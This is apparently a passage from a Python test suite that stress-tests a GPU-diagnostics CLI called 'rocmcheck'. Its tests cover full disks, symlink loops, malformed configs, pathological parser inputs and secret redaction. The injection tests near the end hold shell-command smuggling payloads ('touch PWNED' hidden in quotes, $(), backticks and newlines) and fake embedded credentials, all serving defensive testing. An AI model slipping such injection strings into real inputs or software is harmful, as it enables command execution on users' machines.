            problems.append(f"the fix makes folders of its words: {shlex.join(argv)[:80]}")
    return problems


@finding("O42", "S3-18", "outputs", "smoke-train --out on a full file system", owner="train", limit_s=200)
def o42(box: Box) -> Outcome:
    if not unshare_ok():
        return not_run("needs unshare -m as root")
    argv = in_small_mount(box, "full", [rocmcheck_exe(), "smoke-train", "--steps", "10", "--no-profile", "--out",
                                        str(box.path("full/o"))], fill=True)
    ran = box.run(argv, timeout=170)
    problems = basic(ran, codes=(1, 2))
    problems += write_fix_problems(box, ran)
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@finding("O33", "S3-18", "outputs", "smoke-train --out through a symlink loop", owner="train")
def o33(box: Box) -> Outcome:
    symlink(box, "loop", "loop")
    ran = box.rocmcheck("smoke-train", "--steps", "10", "--no-profile", "--out", "loop/o", timeout=90)
    problems = refused(ran, max_s=20) + write_fix_problems(box, ran)
    return verdict(problems, f"refused before training: {ran.last_line()[:100]}")


# ---------------------------------------------------------------- S3-19 the monitor's outputs and live line

def live_monitor(box: Box, *args: str, command: list[str] | None = None, **kw) -> Ran:
    nvidia_machine(box)
    return box.rocmcheck("monitor", "--backend", "nvidia-smi", "--interval", "0.2", *args, "--",
                         *(command or ["sh", "-c", "sleep 1"]), **kw)


@finding("O34", "S3-19", "outputs", "monitor --out on a read-only file system")
def o34(box: Box) -> Outcome:
    if not unshare_ok():
        return not_run("needs unshare -m as root")
    nvidia_machine(box)
    argv = in_small_mount(box, "ro", [rocmcheck_exe(), "monitor", "--backend", "nvidia-smi", "--quiet", "--out",
                                      str(box.path("ro/o")), "--", "sh", "-c", "exit 0"], read_only=True)
    ran = box.run(argv)
    return verdict(refused(ran), f"refused: {ran.last_line()[:110]}")


@finding("O38", "S3-19", "outputs", "monitor --out on a full file system: the command's exit code kept")
def o38(box: Box) -> Outcome:
    if not unshare_ok():
        return not_run("needs unshare -m as root")
    nvidia_machine(box)
    argv = in_small_mount(box, "full", [rocmcheck_exe(), "monitor", "--backend", "nvidia-smi", "--interval", "0.1",
                                        "--quiet", "--out", str(box.path("full/o")), "--", "sh", "-c", "sleep 2"],
                          size="256k")
    box.path("full").mkdir(exist_ok=True)
    # fill the tmpfs from inside the namespace, after the monitor's folder check, by a helper watching it
    argv[-1] = argv[-1].replace("exec ", f"(sleep 0.6; head -c 100M /dev/zero > {shlex.quote(str(box.path('full')))}"
                                         "/filler 2>/dev/null) & exec ")
    ran = box.run(argv)
    problems = basic(ran, codes=(0, 3))
    return verdict(problems, f"exit {ran.rc} (the command's 0): {ran.last_line()[:100]}")


@finding("O37", "S3-19", "outputs", "three monitors started in the same second without --out")
def o37(box: Box) -> Outcome:
    nvidia_machine(box)
    env = box.env()
    procs = []
    for i in range(3):
        procs.append(subprocess.Popen([rocmcheck_exe(), "monitor", "--backend", "nvidia-smi", "--quiet", "--",
                                       "sh", "-c", f"touch ran{i}"], cwd=box.dir, env=env,
                                      stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True))
    codes = [p.wait(60) for p in procs]
    errors = [p.stderr.read() for p in procs]
    problems = [f"the command of monitor {i} never ran (exit {codes[i]}: {errors[i].strip()[-100:]})"
                for i in range(3) if not box.path(f"ran{i}").exists()]
    problems += [f"monitor {i}: traceback" for i in range(3) if TRACEBACK in errors[i]]
    folders = sorted(p.name for p in box.dir.glob("rocmcheck-monitor-*"))
    return verdict(problems, f"all three ran their command; folders {', '.join(folders)}")


@finding("M26", "S3-19", "outputs", "monitor on a terminal: the live status line redraws")
def m26(box: Box) -> Outcome:
    import pty

    nvidia_machine(box)
    master, slave = pty.openpty()
    chunks: list[bytes] = []
    done = threading.Event()

    def read() -> None:
        while not done.is_set():
            try:
                data = os.read(master, 65536)
            except OSError:
                break
            if not data:
                break
            chunks.append(data)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    proc = subprocess.Popen([rocmcheck_exe(), "monitor", "--backend", "nvidia-smi", "--interval", "0.2", "--out",
                             "o", "--", "sh", "-c", "sleep 2"], cwd=box.dir, env=box.env(TERM="xterm"),
                            stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
    code = proc.wait(60)
    os.close(slave)
    time.sleep(0.3)
    done.set()
    os.close(master)
    text = b"".join(chunks).decode("utf-8", "replace")
    problems = [] if code in (0, 1, 3) else [f"exit {code}"]
    if TRACEBACK in text:
        problems.append("traceback")
    if "\r" not in text or not ("\x1b[K" in text or "\x1b[2K" in text):
        problems.append("the status line is never redrawn (no \\r and erase-line)")
    return verdict(problems, f"exit {code}; the status line redraws in place")


def monitor_cannot_run(box: Box, script: str | bytes, name: str, code: int, words: tuple[str, ...]) -> Outcome:
    box.write(name, script, mode=0o755)
    nvidia_machine(box)
    ran = box.rocmcheck("monitor", "--backend", "nvidia-smi", "--quiet", "--out", "o", "--", f"./{name}")
    problems = basic(ran, codes=(code,))
    if "command not found" in ran.err:
        problems.append(f"says 'command not found' for a file that exists: {ran.last_line()[:80]}")
    for w in words:
        if w not in ran.err:
            problems.append(f"does not say {w!r}: {ran.last_line()[:80]}")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@finding("M06", "S3-19", "outputs", "monitor -- a file that is no program (ENOEXEC)")
def m06(box: Box) -> Outcome:
    return monitor_cannot_run(box, b"\x7fELF\x00garbage", "m06", 126, ())


@finding("M07", "S3-19", "outputs", "monitor -- a script whose #! interpreter is missing")
def m07(box: Box) -> Outcome:
    return monitor_cannot_run(box, "#!/nonexistent/interp\necho hi\n", "m07s", 126, ("/nonexistent/interp",))


@finding("M14", "S3-19", "outputs", "monitor -- a command that stops itself (SIGSTOP), no terminal")
def m14(box: Box) -> Outcome:
    ran = live_monitor(box, "--quiet", "--out", "o", command=["sh", "-c", "kill -STOP $$; echo continued"])
    problems = basic(ran, codes=(128 + signal.SIGSTOP,), max_s=25)
    return verdict(problems, f"exit {ran.rc} after {ran.seconds:.1f} s: {ran.last_line()[:90]}")


# ---------------------------------------------------------------- S3-20 a symlink loop as an output path

def loop_out(box: Box, argv: list[str]) -> Outcome:
    symlink(box, "l.json", "l.json")
    ran = box.rocmcheck(*argv)
    return verdict(refused(ran), f"refused: {ran.last_line()[:110]}")


@finding("O04", "S3-20", "outputs", "doctor --out: a symlink loop")
def o04(box: Box) -> Outcome:
    return loop_out(box, ["doctor", "--no-train", "--no-gpu-probes", "--only", "os", "--out", "l.json"])


@finding("O19", "S3-20", "outputs", "build-env -o: a symlink loop")
def o19(box: Box) -> Outcome:
    return loop_out(box, ["build-env", "--arch", "gfx942", "-o", "l.json"])


@finding("O24", "S3-20", "outputs", "recipes write: the folder is a symlink loop")
def o24(box: Box) -> Outcome:
    symlink(box, "d", "d")
    ran = box.rocmcheck("recipes", "write", "zero2", "d")
    return verdict(refused(ran), f"refused: {ran.last_line()[:110]}")


# ---------------------------------------------------------------- S3-21 ~user of a user that does not exist

@finding("F113", "S3-21", "inputs", "lint: `deepspeed: ~nosuchuser/ds.json` in a training YAML")
def f113(box: Box) -> Outcome:
    box.write("t.yaml", "model_name_or_path: m\nstage: sft\ndo_train: true\nfinetuning_type: lora\n"
                        "deepspeed: ~nosuchuser/ds.json\n")
    ran = box.rocmcheck("lint", "t.yaml")
    return verdict(basic(ran, codes=(0, 1, 2, 3), max_s=30), f"exit {ran.rc}: {ran.last_line()[:100]}")


@finding("F117", "S3-21", "inputs", "plan --model '~nosuchuser/config.json'")
def f117(box: Box) -> Outcome:
    ran = box.rocmcheck("plan", "--model", "~nosuchuser/config.json", "--gpu", "mi300x")
    return verdict(refused(ran), f"refused: {ran.last_line()[:110]}")


# ---------------------------------------------------------------- S3-22 hidden_size null

@finding("F95", "S3-22", "inputs", "plan --model config.json with \"hidden_size\": null")
def f95(box: Box) -> Outcome:
    config = json.loads((TINY_MODEL / "config.json").read_text())
    config["hidden_size"] = None
    box.json("config.json", config)
    ran = box.rocmcheck("plan", "--model", "config.json", "--gpu", "mi300x")
    return verdict(basic(ran, codes=(1, 2, 3)), f"exit {ran.rc}: {ran.last_line()[:110]}")


@finding("F129", "S3-22", "inputs", "plan --model DIR whose config.json has \"hidden_size\": null")
def f129(box: Box) -> Outcome:
    config = json.loads((TINY_MODEL / "config.json").read_text())
    config["hidden_size"] = None
    box.json("m/config.json", config)
    ran = box.rocmcheck("plan", "--model", "m", "--gpu", "mi300x")
    return verdict(basic(ran, codes=(1, 2, 3)), f"exit {ran.rc}: {ran.last_line()[:110]}")


@finding("F127", "S3-22", "verdicts", "smoke-train --model with \"hidden_size\": null: not a rocmcheck bug",
         owner="train", limit_s=200)
def f127(box: Box) -> Outcome:
    config = json.loads((TINY_MODEL / "config.json").read_text())
    config["hidden_size"] = None
    ran = smoke_model(box, config)
    problems = basic(ran, codes=(1, 2, 3))
    if "rocmcheck bug" in ran.both or "CRASH" in ran.out:
        problems.append("called a rocmcheck bug (CRASH)")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:110]}")


# ---------------------------------------------------------------- S3-23 collected_at out of range

@finding("P40", "S3-23", "inputs", "compare over time: collected_at NaN, 1 and -1e18")
def p40(box: Box) -> Outcome:
    docs = []
    for when in (float("nan"), 1, -1e18):
        doc = base_bundle()
        doc["facts"]["collected_at"] = when
        docs.append(doc)
    folder = bundles_dir(box, "cmp", docs)
    ran = box.rocmcheck("compare", str(folder))
    return verdict(basic(ran, codes=(0, 1, 2)), f"exit {ran.rc}: {ran.last_line()[:110]}")


# ---------------------------------------------------------------- S3-24 a broken checkpoint is "a rocmcheck bug"

@finding("F128", "S3-24", "verdicts", "smoke-train --model: a tokenizer without an eos token", owner="train",
         limit_s=200)
def f128(box: Box) -> Outcome:
    model = tiny_model(box)
    for name in ("tokenizer_config.json", "special_tokens_map.json", "generation_config.json", "config.json"):
        path = model / name
        if path.exists():
            data = json.loads(path.read_text())
            for key in ("eos_token", "eos_token_id"):
                data.pop(key, None)
            path.write_text(json.dumps(data))
    tok = model / "tokenizer.json"
    if tok.exists():
        data = json.loads(tok.read_text())
        data["added_tokens"] = [t for t in data.get("added_tokens", []) if "</s>" not in str(t.get("content"))
                                and "eos" not in str(t.get("content")).lower() and "end" not in
                                str(t.get("content")).lower()]
        tok.write_text(json.dumps(data))
    ran = box.rocmcheck("smoke-train", "--model", str(model), "--steps", "10", "--no-profile", timeout=150)
    problems = basic(ran, codes=(0, 1, 2, 3))
    if "rocmcheck bug" in ran.both or "CRASH" in ran.out:
        problems.append("called a rocmcheck bug (CRASH)")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:110]}")


# ---------------------------------------------------------------- S3-25 stdout on a full device

def full_stdout(box: Box, argv: list[str]) -> Outcome:
    ran = box.rocmcheck(*argv, stdout_path="/dev/full")
    problems = basic(ran)
    if ran.rc == 0:
        problems.append("exit 0 although nothing could be written")
    lines = [ln for ln in ran.err.strip().splitlines() if ln.strip()]
    if len(lines) > 3:
        problems.append(f"{len(lines)} lines on stderr")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@finding("X11", "S3-25", "outputs", "doctor > /dev/full")
def x11(box: Box) -> Outcome:
    return full_stdout(box, ["doctor", "--no-train", "--no-gpu-probes", "--only", "os"])


@finding("X12", "S3-25", "outputs", "lint > /dev/full")
def x12(box: Box) -> Outcome:
    box.json("c.json", {"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2}})
    return full_stdout(box, ["lint", "c.json"])


@finding("X13", "S3-25", "outputs", "build-env > /dev/full")
def x13(box: Box) -> Outcome:
    return full_stdout(box, ["build-env", "--arch", "gfx942"])


@finding("X14", "S3-25", "outputs", "recipes show > /dev/full")
def x14(box: Box) -> Outcome:
    return full_stdout(box, ["recipes", "show", "zero2"])


# ---------------------------------------------------------------- S3-26 very many recorded results

def many_results(box: Box, *args: str) -> Outcome:
    doc = base_bundle()
    doc["facts"]["recorded_results"] = [recorded(id=f"probe.x{i}", status="fail", summary="s" * 100,
                                                 fix={"kind": "note", "text": "t" * 50, "why": "", "file": ""})
                                        for i in range(200_000)]
    box.json("b.json", doc)
    ran = box.rocmcheck("doctor", "--bundle", "b.json", *args, timeout=90)
    problems = basic(ran, codes=(0, 1, 2, 3), max_s=20)
    return verdict(problems, f"exit {ran.rc} in {ran.seconds:.1f} s: {ran.last_line()[:90]}")


@finding("P06", "S3-26", "slow", "doctor --bundle: 200 000 recorded results (35 MB)")
def p06(box: Box) -> Outcome:
    return many_results(box)


@finding("P07", "S3-26", "slow", "doctor --bundle --fixes-only: 200 000 recorded results")
def p07(box: Box) -> Outcome:
    return many_results(box, "--fixes-only")


# ---------------------------------------------------------------- S3-27 duplicate keys in a flow mapping

@finding("R23", "S3-27", "verdicts", "lint: `zero_optimization: {stage: 2, stage: 3}`", fast=True)
def r23(box: Box) -> Outcome:
    box.write("ds.yaml", "train_micro_batch_size_per_gpu: 1\nzero_optimization: {stage: 2, stage: 3}\n")
    ran = box.rocmcheck("lint", "--consumer", "deepspeed", "ds.yaml")
    problems = basic(ran, codes=(1, 2))
    if "stage" not in ran.both or not any(w in ran.both.lower() for w in ("duplicate", "twice")):
        problems.append(f"the duplicate key is not named: {ran.last_line()[:90]}")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


# ---------------------------------------------------------------- S3-28 the deepspeed: suggestion's YAML

def yaml_quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def deepspeed_suggestion(box: Box, folder: str) -> Outcome:
    import yaml

    target = box.path(folder) / "z.json"
    target.parent.mkdir(parents=True)
    target.write_text(json.dumps({"train_micro_batch_size_per_gpu": 1, "zero_optimization": {"stage": 2}}))
    box.write("sub/t.yaml", "model_name_or_path: m\nstage: sft\ndo_train: true\nfinetuning_type: lora\n"
                            f"deepspeed: {yaml_quote(f'../{folder}/z.json')}\n")
    ran = box.rocmcheck("lint", "sub/t.yaml")  # from another folder: the relative path is found next to it only
    problems = basic(ran, codes=(0, 1, 2, 3))
    lines = [ln.strip() for ln in ran.both.splitlines() if "deepspeed: " in ln and str(box.dir) in ln]
    if not lines:
        return verdict(problems + ["no absolute deepspeed: suggestion printed"], f"exit {ran.rc}")
    suggestion = lines[0][lines[0].index("deepspeed: "):].split(" (an absolute", 1)[0]
    try:
        value = yaml.safe_load(suggestion)
    except yaml.YAMLError as exc:
        problems.append(f"the suggestion is not YAML: {exc}")
        value = None
    if not isinstance(value, dict) or value.get("deepspeed") != str(target):
        problems.append(f"{suggestion[:80]!r} reads as {value!r}, not the path")
    return verdict(problems, f"exit {ran.rc}; the suggested line reads back as the path")


@finding("I13", "S3-28", "injection", "lint: the deepspeed: suggestion for a folder named `ds #1`")
def i13(box: Box) -> Outcome:
    return deepspeed_suggestion(box, "ds #1")


# ---------------------------------------------------------------- S3-29 compare shows unredacted bundles

@finding("S33", "S3-29", "secrets", "compare: a hand-edited bundle with `transformers: 4.0.0 token=...`")
def s33(box: Box) -> Outcome:
    token, password = "tokSECRET33abcdef0123", "OsPwSECRET33"

    def odd(doc: dict) -> None:
        doc["facts"]["packages"]["transformers"] = f"4.0.0 token={token}"
        doc["facts"]["os_info"]["name"] = f"Ubuntu https://u:{password}@mirror.example/x"
    folder = three_nodes(box, odd)
    ran = box.rocmcheck("compare", str(folder), "-v")
    again = box.rocmcheck("compare", str(folder), "--json")
    problems = basic(ran, codes=(0, 1)) + leaks([ran.both, again.both], [token, password])
    return verdict(problems, f"exit {ran.rc}; neither in the table, findings, fixes or --json")


# ---------------------------------------------------------------- S3-30 smaller ones

@finding("F28", "S3-30", "slow", "lint: a 5 MB key in a DeepSpeed config is not printed three times")
def f28(box: Box) -> Outcome:
    box.write("c.json", '{"train_micro_batch_size_per_gpu": 1, "' + "k" * 5_000_000 + '": 1}')
    ran = box.rocmcheck("lint", "c.json")
    problems = basic(ran, codes=(0, 1, 2))
    if ran.out_bytes + len(ran.err) > 200_000:
        problems.append(f"{ran.out_bytes + len(ran.err):,} bytes of output")
    return verdict(problems, f"exit {ran.rc}; {ran.out_bytes + len(ran.err):,} bytes of output")


@finding("BX17", "S3-30", "outputs", "doctor --only with a 100 kB value is not echoed in full")
def bx17(box: Box) -> Outcome:
    ran = box.rocmcheck("doctor", "--only", "x" * 100_000)
    problems = refused(ran)
    if len(ran.err) > 2000:
        problems.append(f"{len(ran.err):,} characters on stderr")
    return verdict(problems, f"refused in {len(ran.err)} characters")


@finding("BX19", "S3-30", "inputs", "smoke-train --timeout -5 is refused", owner="train")
def bx19(box: Box) -> Outcome:
    ran = box.rocmcheck("smoke-train", "--timeout", "-5", "--steps", "10", timeout=60)
    return verdict(refused(ran), f"refused: {ran.last_line()[:110]}")


@finding("O10", "S3-30", "outputs", "doctor --out newdir/ does not write a file named newdir")
def o10(box: Box) -> Outcome:
    ran = box.rocmcheck("doctor", "--no-train", "--no-gpu-probes", "--only", "os", "--out", "newdir/")
    problems = basic(ran, codes=(0, 1, 2, 3))
    if box.path("newdir").is_file():
        problems.append("wrote a file named newdir")
    return verdict(problems, f"exit {ran.rc}: {ran.last_line()[:100]}")


@finding("F78b", "S3-30", "outputs", "lint: a file name with a newline keeps each message on one line")
def f78b(box: Box) -> Outcome:
    box.write("a\nINJECTED: 1: error: fake.json", '{"train_micro_batch_size_per_gpu": 1, "zero_optimisation": 1}')
    ran = box.rocmcheck("lint", "--consumer", "deepspeed", "a\nINJECTED: 1: error: fake.json")
    problems = basic(ran, codes=(0, 1, 2))
    starts = [ln for ln in ran.both.splitlines() if ln.startswith("INJECTED")]
    if starts:
        problems.append(f"a line starts with the name's second half: {starts[0][:80]!r}")
    return verdict(problems, f"exit {ran.rc}; no line starts with the name's second half")


@finding("T26", "S3-30", "verdicts", "doctor: a tool whose #! interpreter is missing is not 'not found on PATH'")
def t26(box: Box) -> Outcome:
    box.write("fake/rocminfo", "#!/nonexistent/python9\nprint('x')\n", mode=0o755)
    ran = doctor(box, "-v")
    problems = basic(ran, codes=(0, 1, 3))
    bad = [ln.strip() for ln in ran.out.splitlines() if "rocminfo" in ln and "not found on PATH" in ln]
    if bad:
        problems.append(f"says {bad[0][:100]!r}")
    return verdict(problems, f"exit {ran.rc}; the interpreter is named, not 'not found on PATH'")


@finding("P47", "S3-30", "inputs", "compare given a FIFO says so")
def p47(box: Box) -> Outcome:
    mkfifo(box, "b.json")
    box.json("c.json", base_bundle())
    ran = box.rocmcheck("compare", "b.json", "c.json")
    problems = refused(ran)
    if "no such file" in ran.err.lower():
        problems.append(f"says no such file: {ran.last_line()[:80]}")
    return verdict(problems, f"refused: {ran.last_line()[:110]}")


@finding("I04", "S3-30", "outputs", "monitor on a host whose name holds '/' (sethostname)")
def i04(box: Box) -> Outcome:
    if not unshare_ok():
        return not_run("needs unshare -u as root")
    nvidia_machine(box)
    argv = ["unshare", "-u", sys.executable, "-c",
            "import os, socket, sys; socket.sethostname('a/b$x'); os.execv(sys.argv[1], sys.argv[1:])",
            rocmcheck_exe(), "monitor", "--backend", "nvidia-smi", "--interval", "0.2", "--quiet", "--out", "o", "--",
            "sh", "-c", "sleep 1"]
    ran = box.run(argv)
    problems = basic(ran, codes=(0, 1, 3))
    outside = [p for p in box.dir.rglob("*") if p.is_file() and "memory-" in p.name and p.parent.name != "o"]
    if outside:
        problems.append(f"wrote {outside[0]} outside --out")
    return verdict(problems, f"exit {ran.rc}; files: {', '.join(sorted(p.name for p in box.path('o').glob('*')))}"
                   if box.path("o").exists() else f"exit {ran.rc}")


@finding("T52", "S3-30", "verdicts", "doctor: a torch whose import raises reports a version through the protocol fd")
def t52(box: Box) -> Outcome:
    box.module("torch", """
        import json, os
        event = {"event": "probe", "probe": "torch", "data": {"installed": True, "version": "9.9.9",
                 "hip": "6.2.0", "cuda": None, "cuda_available": False, "device_count": 0, "arch_list": []}}
        for fd in range(3, 64):
            try:
                if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                    os.write(fd, (json.dumps(event) + "\\n").encode())
            except OSError:
                pass
        raise ImportError("no torch here")
        """)
    ran = doctor(box)
    problems = basic(ran, codes=(0, 1, 3))
    if "9.9.9" in ran.out:
        problems.append("torch 9.9.9 reported although its import raised")
    return verdict(problems, f"exit {ran.rc}; the version written through the protocol fd is not believed")



# ============================================================================================ table 2: fresh
# ---------------------------------------------------------------- slow: pure readers on pathological text

# Each shape is a Python expression of n (the size in characters) run in the child.
SHAPES = {
    "one letter": '"x" * n', "spaces": '" " * n', "colons": '":" * n', "digits": '"9" * n',
    "key lines": '"  Marketing Name:   " * (n // 20)', "a=a=": '"a=" * (n // 2)', "open braces": '"{" * n',
    "open brackets": '"[" * n', "quotes": '"\\"" * n', "backslashes": '"\\\\" * n', "ansi": '"\\x1b[" * (n // 2)',
    "commas": '", " * (n // 2)', "pipes": '"| " * (n // 2)', "dashes": '"-" * n', "newlines": '"\\n" * n',
    "short lines": '"GPU[0] : x: y\\n" * (n // 14)', "url userinfo": '"a://a:a@" * (n // 8)',
    "cr": '"\\r" * n', "tabs": '"\\t" * n', "equals lines": '"NAME=value\\n" * (n // 11)',
}
TIMING_CHILD = r'''
import importlib, json, sys, time
targets, shapes, small = json.loads(sys.argv[1]), json.loads(sys.argv[2]), int(sys.argv[3])
worst = []
for target in targets:
    module, name = target.split(":")
    fn = getattr(importlib.import_module(module), name)
    for shape, expr in shapes.items():
        times = []
        for n in (small, 2 * small):
            text = eval(expr, {"n": n})
            start = time.perf_counter()
            try:
                result = fn(text)
                if name == "split_paste":
                    from rocmcheck.triage.readers.paste_read import read_block
                    for block in result:
                        read_block(block)
            except Exception as exc:  # a reader that raises is a finding of its own
                worst.append({"target": target, "shape": shape, "raised": f"{type(exc).__name__}: {exc}"[:120]})
                break
            times.append(time.perf_counter() - start)
        if len(times) == 2:
            worst.append({"target": target, "shape": shape, "small": times[0], "big": times[1]})
print(json.dumps(worst))
'''


def timing_attack(targets: list[str], *, small: int = 100_000, raises_ok: bool = False,
                  big_s: float = 3.0) -> Callable[[Box], Outcome]:
    """Every target on every SHAPES text of small and 2*small characters: each call under big_s and no faster
    growth than linear (a doubling may cost at most 3x, past 0.5 s); a reader that raises is a failure unless
    raises_ok (the readers say they never raise)."""
    def run(box: Box) -> Outcome:
        ran = box.run([sys.executable, "-c", TIMING_CHILD, json.dumps(targets), json.dumps(SHAPES), str(small)],
                      timeout=600)
        problems = basic(ran, codes=(0,))
        if problems:
            return verdict(problems, "")
        rows = json.loads(ran.out.strip().splitlines()[-1])
        for row in rows:
            where = f"{row['target'].split(':')[1]} on {row['shape']}"
            if "raised" in row:
                if not raises_ok:
                    problems.append(f"{where} raised {row['raised']}")
            elif row["big"] > big_s:
                problems.append(f"{where}: {row['big']:.1f} s for {2 * small:,} characters")
            elif row["big"] > 0.5 and row["big"] > 3 * max(row["small"], 1e-3):
                problems.append(f"{where}: {row['small']:.2f} s -> {row['big']:.2f} s when doubled")
        slowest = max((r for r in rows if "big" in r), key=lambda r: r["big"], default=None)
        seen = (f"{len(targets)} readers x {len(SHAPES)} shapes; slowest {slowest['target'].split(':')[1]} on "
                f"{slowest['shape']}: {slowest['big']:.2f} s for {2 * small:,} characters" if slowest else "")
        return verdict(problems, seen)
    return run


P = "rocmcheck.facts.parsers."
PARSER_GROUPS = {
    "SL01": ("rocminfo, hipconfig, kernel log, versions",
             [P + "rocminfo:parse_rocminfo", P + "hipconfig:parse_hipconfig", P + "kernel_log:parse_kernel_log",
              P + "versions:parse_rocm_version_file", P + "hip_log:parse_hip_log"]),
    "SL02": ("rocm-smi and amd-smi readers (text and JSON)",
             [P + "smi:parse_rocm_smi", P + "smi:parse_rocm_smi_json", P + "smi:parse_amd_smi_version",
              P + "smi:parse_amd_smi_list", P + "smi:parse_amd_smi_static", P + "smi:smi_driver_error",
              P + "smi_monitor:parse_amd_smi_monitor", P + "smi_monitor:parse_rocm_smi_monitor_json"]),
    "SL03": ("nvidia-smi readers (table, -q, csv, monitor)",
             [P + "nvidia_smi:parse_nvidia_smi_table", P + "nvidia_smi:parse_nvidia_smi_q",
              P + "gpu_health:parse_nvidia_smi_q", P + "smi_monitor:parse_nvidia_query",
              P + "smi_monitor:parse_nvidia_compute_apps", P + "links:parse_nvidia_topo",
              P + "links:parse_amd_smi_topology", P + "links:parse_rocm_smi_topo"]),
    "SL04": ("what people paste: collect_env, ds_report, env reports, packages, docker run",
             [P + "collect_env:parse_collect_env", P + "ds_report:parse_ds_report", P + "env_reports:parse_env_report",
              P + "packages:parse_packages", P + "packages:parse_pip_install", P + "docker_run:parse_docker_run"]),
    "SL05": ("shell lines, Python sessions, tracebacks, NCCL logs, system info",
             [P + "shell:parse_command", P + "shell:split_prompt", P + "shell:bare_command", P + "shell:unmark",
              P + "python_session:parse_python_session", P + "traceback:parse_traceback", P + "nccl_log:parse_nccl_log",
              P + "nccl_log:parse_nccl_tests", P + "system_info:parse_uname", P + "system_info:parse_os_release",
              P + "system_info:parse_nvcc", P + "system_info:parse_dkms_status"]),
}
for _id, (_title, _targets) in PARSER_GROUPS.items():
    fresh(_id, "S3-3", "slow", f"readers on 200 kB pathological lines: {_title}", limit_s=600)(timing_attack(_targets))

fresh("SL06", "S3-3", "slow", "the redactor on 400 kB of every pathological shape (URLs, PEM, NAME=, quotes)",
      limit_s=600, fast=True)(timing_attack(["rocmcheck.facts.redact:redact_value"], small=200_000, big_s=2.0))
fresh("SL07", "S3-3", "slow", "triage's splitter (facts/parsers/paste.py) and every block's reader, 400 kB",
      limit_s=600)(timing_attack([P + "paste:split_paste"], small=200_000))

PASTE_SHAPES = {
    "fence toggles": '"```\\n" * (n // 4)', "tilde fences": '"~~~ bash\\n" * (n // 9)',
    "prompts": '"$ rocm-smi\\n" * (n // 11)', "deep quotes": '"> " * (n // 2)',
    "details": '"<details><summary>x</summary>\\n" * (n // 30)', "bold code": '"**`amd-smi version`**\\n" * (n // 22)',
    "caret escapes": '"^[[0m" * (n // 5)', "signature churn": '("ROCk module version 6.8 is loaded\\n" '
    '"| NVIDIA-SMI 580.95 |\\n" "=== ROCm System Management Interface ===\\n" "Traceback (most recent call last):\\n"'
    ') * (n // 120)', "python prompts": '">>> import torch\\n... \\n" * (n // 22)',
    "one long line": '"x" * (8 * n)', "elisions": '"...\\n(...)\\n" * (n // 10)',
}


@fresh("SL08", "S3-3", "slow", "triage's splitter on markdown, prompts, quotes and signature churn (400 kB)",
       limit_s=600)
def sl08(box: Box) -> Outcome:
    ran = box.run([sys.executable, "-c", TIMING_CHILD, json.dumps([P + "paste:split_paste"]),
                   json.dumps(PASTE_SHAPES), "200000"], timeout=600)
    problems = basic(ran, codes=(0,))
    if problems:
        return verdict(problems, "")
    rows = json.loads(ran.out.strip().splitlines()[-1])
    for row in rows:
        if "raised" in row:
            problems.append(f"{row['shape']}: raised {row['raised']}")
        elif row["big"] > 5 or (row["big"] > 0.5 and row["big"] > 3 * max(row["small"], 1e-3)):
            problems.append(f"{row['shape']}: {row['small']:.2f} s -> {row['big']:.2f} s")
    slowest = max((r for r in rows if "big" in r), key=lambda r: r["big"])
    return verdict(problems, f"slowest {slowest['shape']}: {slowest['big']:.2f} s for 400 kB")


@fresh("SL09", "S3-3", "slow", "the redactor stays linear: 2 MB lines of 12 shapes, each under 5 s", limit_s=300)
def sl09(box: Box) -> Outcome:
    shapes = {k: SHAPES[k] for k in ("one letter", "a=a=", "url userinfo", "quotes", "backslashes", "equals lines",
                                     "key lines", "digits", "colons")}
    shapes.update({"pem begins": '"-----BEGIN " * (n // 11)', "password=": '"password=" * (n // 9)',
                   "bearer": '"Bearer " * (n // 7)'})
    ran = box.run([sys.executable, "-c", TIMING_CHILD, json.dumps(["rocmcheck.facts.redact:redact_value"]),
                   json.dumps(shapes), "1000000"], timeout=280)
    problems = basic(ran, codes=(0,))
    if problems:
        return verdict(problems, "")
    rows = json.loads(ran.out.strip().splitlines()[-1])
    problems = [f"{r['shape']}: {r['big']:.1f} s for 2 MB" for r in rows if r.get("big", 0) > 5]
    slowest = max(rows, key=lambda r: r.get("big", 0))
    return verdict(problems, f"slowest {slowest['shape']}: {slowest.get('big', 0):.2f} s for 2 MB")



# ---------------------------------------------------------------- injection: other fields, tools and commands

PAYLOAD = "x'; touch PWNED; echo '$(touch PWNED_SUB)`touch PWNED_BT`\ntouch PWNED_NL #"  # quote, $(), ``, newline


@fresh("IJ01", "S3-1", "injection", "doctor: a GPU marketing name holding quotes, $(), backticks and a newline")
def ij01(box: Box) -> Outcome:
    amd_machine(box, name="AMD Instinct MI300X" + PAYLOAD)
    return doctor_pastes(box, "--arch", "gfx90a", "-v")


@fresh("IJ02", "S3-1", "injection", "doctor: the driver version (rocminfo's ROCk line, amd-smi's driver.version)")
def ij02(box: Box) -> Outcome:
    amd_machine(box, rock="6.8.5" + PAYLOAD.replace("\n", " "),
                smi=amd_smi_static().replace('"version": "6.8.5"', '"version": ' + json.dumps("6.8.5" + PAYLOAD)))
    return doctor_pastes(box)


@fresh("IJ03", "S3-1", "injection", "doctor: an installed torch whose version string holds a command (AMD box)")
def ij03(box: Box) -> Outcome:
    amd_machine(box)
    box.module("torch", f"""
        __version__ = {("2.5.1+rocm6.2" + PAYLOAD)!r}
        class version:
            hip = {("6.2.41133" + PAYLOAD)!r}
            cuda = None
        class cuda:
            @staticmethod
            def is_available():
                return False
        """)
    return doctor_pastes(box)


@fresh("IJ04", "S3-1", "injection", "doctor: an amdgpu fault line in the kernel log whose device field holds a command")
def ij04(box: Box) -> Outcome:
    amd_machine(box)
    box.fake_prints("journalctl", "2026-12-01T10:00:00+0000 n kernel: amdgpu 0000:0b:00.0$(touch PWNED): amdgpu: "
                                  "[gfxhub] page fault (src_id:0 ring:24 vmid:8 pasid:32792)\n"
